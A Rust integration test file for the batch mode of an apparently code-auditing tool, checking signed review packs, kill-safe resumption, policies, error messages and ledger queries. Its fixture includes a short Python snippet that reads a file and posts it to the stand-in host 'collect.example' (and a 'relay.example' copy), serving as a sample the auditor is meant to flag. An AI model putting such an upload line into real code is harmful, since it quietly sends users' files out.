//! `candor batch`: a failure costs itself alone, a kill at any moment costs nothing that was done, and packs do not depend on
//! either. Kills come after so many events, not after so much time.

use std::collections::BTreeMap;
use std::fs;
use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use candor::attest::index::{BatchIndex, Outcome};
use candor::attest::{PrivateKey, Times, Trust, dsse::Envelope, edit::Auditor, layout, verify};
use candor::base::Digest;
use serde_json::Value;
use tempfile::TempDir;

use super::intake_support::{run, write};

const UPLOAD: &str =
    "import requests\n\ndef send(path):\n    requests.post('https://collect.example/in', data=open(path).read())\n";

/// A home with submissions in it, an auditor's key, and room for outputs.
pub(super) struct House {
    home: TempDir,
}

impl House {
    /// Submissions with findings and without, an archive, a damaged one, and one that is not there.
    pub(super) fn new() -> Self {
        let house = Self { home: tempfile::tempdir().expect("a scratch folder") };
        house.put("leaky/agent.py", UPLOAD.as_bytes());
        house.put("leaky/notes.txt", b"see agent.py\n");
        house.put("clean/sum.py", b"def add(a, b):\n    return a + b\n");
        house.put("clean/odd name.c", b"int x;\n");
        house.put("damaged.zip", b"PK\x03\x04 and then nothing that an archive has");
        std::os::unix::fs::symlink("nowhere", house.path("in/gone")).expect("a link");
        fs::create_dir(house.path("stage")).expect("a folder");
        write(&house.path("stage"), "relay/send.py", UPLOAD.replace("collect", "relay").as_bytes());
        run(&house.path("stage"), "tar", &["-cf", "../in/packed.tar", "relay"]);
        PrivateKey::from_secret(&[7; 32]).save(&house.path("auditor.pem")).expect("a key");
        house
    }

    pub(super) fn home(&self) -> &Path {
        self.home.path()
    }

    pub(super) fn path(&self, name: &str) -> PathBuf {
        self.home.path().join(name)
    }

    pub(super) fn put(&self, name: &str, bytes: &[u8]) {
        write(&self.path("in"), name, bytes);
    }

    pub(super) fn candor(&self, args: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_candor"));
        command.env_clear().env("HOME", self.home.path()).current_dir(self.home.path()).stdin(Stdio::null()).args(args);
        command
    }

    fn batch(&self, output: &str, more: &[&str]) -> Command {
        self.candor(&[&["batch", "in", "--output", output, "--key", "auditor.pem", "--json"], more].concat())
    }

    /// Runs a batch to its end; its events.
    fn run(&self, output: &str) -> (i32, Vec<Value>) {
        events(&self.batch(output, &["--jobs=2"]).output().expect("it runs"))
    }

    fn ledger(&self, args: &[&str]) -> Vec<Value> {
        let output = self.candor(&[&["ledger", "--json"], args].concat()).output().expect("it runs");
        assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
        serde_json::from_slice(&output.stdout).expect("a JSON array")
    }
}

fn events(output: &Output) -> (i32, Vec<Value>) {
    let text = String::from_utf8_lossy(&output.stdout);
    let events = text.lines().map(|line| serde_json::from_str(line).expect("one JSON object a line")).collect();
    (output.status.code().unwrap_or_else(|| panic!("a signal: {}", String::from_utf8_lossy(&output.stderr))), events)
}

/// Names of the submissions whose event this is.
fn named(events: &[Value], event: &str) -> Vec<String> {
    let mut names: Vec<String> = events
        .iter()
        .filter(|each| each["event"] == event)
        .map(|each| each["name"].as_str().expect("a name").to_owned())
        .collect();
    names.sort();
    names
}

/// Every file of every pack but what says when it was made, by its path.
pub(super) fn packs(output: &Path) -> BTreeMap<PathBuf, Digest> {
    let mut found = BTreeMap::new();
    let mut pending = vec![output.to_owned()];
    while let Some(folder) = pending.pop() {
        for entry in fs::read_dir(folder).expect("a folder") {
            let path = entry.expect("an entry").path();
            let inside = path.strip_prefix(output).expect("below").to_owned();
            let name = path.file_name().and_then(|name| name.to_str()).expect("UTF-8");
            if path.is_dir() {
                pending.push(path);
            } else if !layout::is_companions(name) && !name.starts_with("ledger.sqlite") {
                found.insert(inside, Digest::of(&fs::read(&path).expect("a file")));
            }
        }
    }
    found
}

fn index(output: &Path) -> BatchIndex {
    let envelope = Envelope::parse(&fs::read(output.join("batch-index.dsse.json")).expect("an index")).expect("an envelope");
    let key = PrivateKey::from_secret(&[7; 32]).public();
    assert!(envelope.holds(&envelope.signatures()[0], &key), "signed with the auditor's key");
    BatchIndex::parse(envelope.payload()).expect("a statement")
}

#[test]
fn each_submission_gets_its_pack_and_a_failure_is_its_own() {
    let house = House::new();
    let (code, events) = house.run("out");
    assert_eq!(code, 2, "one could not be read: {events:?}");
    assert_eq!(named(&events, "finished"), ["clean", "damaged.zip", "leaky", "packed.tar"]);
    assert_eq!(named(&events, "failed"), ["gone"]);
    let mut counts = events.last().expect("events").clone();
    let kept = counts.as_object_mut().and_then(|counts| counts.remove("kept"));
    assert_eq!(kept, Some(0.into()));
    assert_eq!(counts, serde_json::json!({"event": "done", "passed": 1, "findings": 2, "incomplete": 1, "failed": 1}));

    let key = PrivateKey::from_secret(&[7; 32]).public();
    let auditor = Auditor { key, owner: "Ada".to_owned(), organisation: "Audit House".to_owned() };
    let trust = Trust::init(&[auditor]).expect("a trust file");
    let index = index(&house.path("out"));
    for entry in &index.predicate.submissions {
        match &entry.outcome {
            Outcome::Reviewed { pack, attestation, .. } => {
                let path = house.path("out").join(pack);
                assert_eq!(Digest::of(&fs::read(&path).expect("the attestation")), attestation.sha256);
                assert!(
                    verify(path.parent().expect("the pack"), &trust, Times::at("2026-01-31T12:00:00Z"))
                        .expect("readable")
                        .accepted,
                    "{}",
                    entry.name
                );
            }
            Outcome::Failed { error } => assert!(entry.name == "gone" && !error.is_empty()),
        }
    }
    assert_eq!(index.predicate.submissions.len(), 5);
}

#[test]
fn what_is_done_is_kept_and_what_changed_is_done_again() {
    let house = House::new();
    house.run("out");
    let before = packs(&house.path("out"));
    let (_, events) = house.run("out");
    assert_eq!(named(&events, "kept"), ["clean", "damaged.zip", "leaky", "packed.tar"]);
    assert_eq!(packs(&house.path("out")), before, "nothing was touched");

    // One more file in one, another mode in the next; of the third, a damaged pack.
    house.put("leaky/more.py", b"x = 1\n");
    use std::os::unix::fs::PermissionsExt as _;
    fs::set_permissions(house.path("in/clean/sum.py"), fs::Permissions::from_mode(0o755)).expect("ours");
    fs::write(house.path("out/packed.tar.candor/report.html"), "changed").expect("ours");
    let (_, events) = house.run("out");
    assert_eq!(named(&events, "finished"), ["clean", "leaky", "packed.tar"]);
    house.put("new/a.py", b"y = 2\n");
    let (_, events) = house.run("out");
    assert_eq!((named(&events, "finished"), named(&events, "kept").len()), (vec!["new".to_owned()], 4));
}

#[test]
fn a_policy_judges_every_submission_and_what_it_judged_is_kept_while_it_stands() {
    let house = House::new();
    let judged = |policy: &str| {
        fs::write(house.path("policy.toml"), policy).expect("ours");
        events(&house.batch("out", &["--policy=policy.toml"]).output().expect("it runs")).1
    };
    house.run("out");
    let all = ["clean", "damaged.zip", "leaky", "packed.tar"];
    let events = judged("[count]\nignore = [\"file-upload\"]\n");
    assert_eq!(named(&events, "finished"), all, "judged anew");
    assert_eq!(events.last().expect("events")["passed"], 3);
    let report = fs::read(house.path("out/leaky.candor/report.json")).expect("a report");
    let report = candor::report::model::Report::from_json(&report).expect("sound");
    assert_eq!((report.verdict.value.name(), report.findings.len()), ("PASSED", 1));
    assert_eq!(report.judgement.expect("judged").uncounted, ["F001"]);
    for entry in &index(&house.path("out")).predicate.submissions {
        if let Outcome::Reviewed { verdict, .. } = &entry.outcome {
            assert_eq!(verdict, if entry.name == "damaged.zip" { "INCOMPLETE" } else { "PASSED" }, "{}", entry.name);
        }
    }
    let verdicts = house.ledger(&["submissions", "--ledger=out"]);
    assert_eq!(verdicts.iter().filter(|row| row["verdict"] == "PASSED").count(), 3, "{verdicts:?}");

    assert_eq!(named(&judged("[count]\nignore = [\"file-upload\"]\n"), "kept"), all);
    let digest = "a".repeat(64);
    let accept = |until: &str| {
        format!("[[accept]]\nfingerprint = \"{digest}\"\ncode = \"{digest}\"\nuntil = {until}\nreason = \"known\"\n")
    };
    assert_eq!(named(&judged(&accept("2020-01-31")), "finished"), all, "another policy");
    assert_eq!(named(&house.run("out").1, "finished"), all, "no policy");
    let output = house.batch("out", &["--policy=nowhere.toml"]).output().expect("it runs");
    assert_eq!(output.status.code(), Some(2));
}

#[test]
fn who_signs_a_finished_pack_too_changes_nothing_of_what_is_done() {
    let house = House::new();
    house.run("out");
    for args in [&["keygen", "--output=second.pem"][..], &["sign", "out/leaky.candor", "--key=second.pem"]] {
        let output = house.candor(args).output().expect("it runs");
        assert!(output.status.success(), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
    }
    let before = packs(&house.path("out/leaky.candor"));
    let (_, events) = house.run("out");
    assert_eq!(named(&events, "kept"), ["clean", "damaged.zip", "leaky", "packed.tar"]);
    assert_eq!(packs(&house.path("out/leaky.candor")), before, "both signatures are there");
}

/// Runs a batch until it has printed so many events, then kills it; `false`: it had come to its end.
fn killed_after(house: &House, output: &str, count: usize) -> bool {
    let mut child = house.batch(output, &["--jobs=2"]).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().expect("started");
    let lines = BufReader::new(child.stdout.take().expect("a pipe")).lines().take(count);
    let seen = lines.map_while(Result::ok).count();
    child.kill().expect("ours");
    child.wait().expect("ours");
    seen == count
}

#[test]
fn a_kill_at_any_moment_loses_nothing() {
    let house = House::new();
    for number in 0..6 {
        house.put(&format!("small{number}/a.py"), format!("{UPLOAD}\nx = {number}\n").as_bytes());
    }
    house.run("undisturbed");
    let expected = packs(&house.path("undisturbed"));
    // Each kill comes later than the one before, over the same output.
    let kills = (1..60).step_by(7).take_while(|&count| killed_after(&house, "out", count)).count();
    assert!(kills >= 3, "most of these were under way");
    house.run("out");
    assert_eq!(packs(&house.path("out")), expected);
    let left: Vec<_> = fs::read_dir(house.path("out"))
        .expect("a folder")
        .map(|entry| entry.expect("an entry").file_name().into_string().expect("UTF-8"))
        .filter(|name| name.starts_with('.') && name != ".candor-batch.lock")
        .collect();
    assert!(left.is_empty(), "no half pack stays: {left:?}");
    let states: Vec<_> = house.ledger(&["runs", "--ledger=out"]).iter().map(|run| run["state"].clone()).collect();
    assert!(!states.contains(&"started".into()) && states.contains(&"interrupted".into()), "{states:?}");
}

#[test]
fn an_older_pack_that_was_only_moved_aside_comes_back() {
    let house = House::new();
    house.run("out");
    let before = packs(&house.path("out"));
    fs::rename(house.path("out/leaky.candor"), house.path("out/.leaky.candor.0123456789abcdef.old")).expect("ours");
    fs::create_dir(house.path("out/.leaky.candor.0123456789abcdef.partial")).expect("ours");
    let (_, events) = house.run("out");
    assert!(named(&events, "kept").contains(&"leaky".to_owned()), "{events:?}");
    assert_eq!(packs(&house.path("out")), before);
}

#[test]
fn mistakes_are_told_before_the_work() {
    let house = House::new();
    fs::write(house.path("twice.txt"), "in/leaky\nin/../in/leaky\n").expect("ours");
    fs::write(house.path("gone.txt"), "# a comment\n\nin/leaky\nin/nowhere\n").expect("ours");
    fs::write(house.path("vendor.txt"), "../acme\tin/leaky\n").expect("ours");
    fs::create_dir(house.path("empty")).expect("ours");
    let busy = house.path("busy");
    fs::create_dir(&busy).expect("ours");
    let lock = fs::File::create(busy.join(".candor-batch.lock")).expect("ours");
    lock.lock().expect("nobody else has it");
    fs::write(house.path("other.sqlite"), "not a database, but long enough to look at").expect("ours");
    for (args, why) in [
        (&["batch", "nowhere", "--output", "o"][..], "cannot read nowhere"),
        (&["batch", "empty", "--output", "o"], "no submission in empty"),
        (&["batch", "in/damaged.zip", "--output", "o"], "damaged.zip, line 1"),
        (&["batch", "auditor.pem", "--output", "o"], "auditor.pem, line 1"),
        (&["batch", "twice.txt", "--output", "o"], "same pack, leaky.candor"),
        (&["batch", "gone.txt", "--output", "o"], "gone.txt, line 4: in/nowhere"),
        (&["batch", "vendor.txt", "--output", "o"], "vendor.txt, line 1: a vendor's name"),
        (&["batch", "in", "--output", "in/leaky/out"], "inside the submission leaky"),
        (&["batch", "in", "--output", "twice.txt"], "cannot create twice.txt"),
        (&["batch", "in", "--output", "busy"], "another batch writes into busy"),
        (&["batch", "in", "--output", "o", "--ledger", "other.sqlite"], "other.sqlite"),
        (&["batch", "in", "--output", "o", "--memory", "lots"], "`lots` is not a size"),
        (&["ledger", "runs", "--ledger", "o/none.sqlite"], "there is no ledger"),
        (&["ledger", "blob", "abc", "--ledger", "o"], "no SHA-256 digest"),
    ] {
        let key: &[&str] = if args[0] == "batch" { &["--key", "auditor.pem"] } else { &[] };
        let output = house.candor(&[args, key].concat()).output().expect("it runs");
        let err = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {err}");
        assert!(err.contains(why) && (err.contains("help: ") || err.contains("--help")), "{args:?}: {err}");
    }
}

#[test]
fn the_ledger_answers_across_vendors_and_runs() {
    let house = House::new();
    let list = "acme\tin/leaky\nbetamax\tin/packed.tar\nacme\tin/clean\n";
    fs::write(house.path("list.txt"), list).expect("ours");
    // The same file as acme's, in another vendor's archive.
    house.put("shared/agent.py", UPLOAD.as_bytes());
    fs::write(house.path("later.txt"), "gamma\tin/shared\n").expect("ours");
    for (list, output) in [("list.txt", "one"), ("later.txt", "two"), ("list.txt", "one")] {
        let args = ["batch", list, "--output", output, "--ledger", "all.sqlite", "--key", "auditor.pem", "--quiet"];
        let ran = house.candor(&args).output().expect("it runs");
        assert_eq!(ran.status.code(), Some(1), "{}", String::from_utf8_lossy(&ran.stderr));
    }
    let ledger = |args: &[&str]| house.ledger(&[args, &["--ledger=all.sqlite"]].concat());
    assert!(house.path("one/acme/leaky.candor").is_dir());
    assert_eq!(ledger(&["submissions"]).len(), 4);
    assert_eq!(ledger(&["runs"]).len(), 4, "what was kept is no run");
    let shared = ledger(&["blob", &Digest::of(UPLOAD.as_bytes()).hex()]);
    let vendors: Vec<_> = shared.iter().map(|row| row["vendor"].as_str().expect("text")).collect();
    assert_eq!(vendors, ["acme", "gamma"]);
    assert_eq!(ledger(&["findings", "--class=file-upload"]).len(), 3);
    assert!(ledger(&["findings", "--class=no-such-class"]).is_empty());
    let hosts = |host: &str| ledger(&["endpoints", "--host", host]).len();
    assert_eq!((hosts("collect.example"), hosts("relay.example"), hosts("EXAMPLE"), hosts("ample")), (2, 1, 3, 0));
    let first = ledger(&["first-seen", "--kind=host"]);
    let collect = first.iter().find(|row| row["what"] == "collect.example").expect("it was seen");
    assert_eq!((&collect["vendor"], &collect["submissions"]), (&"acme".into(), &2.into()));
    assert!(ledger(&["capabilities", "--capability=network"]).iter().any(|row| row["name"] == "leaky"));
}
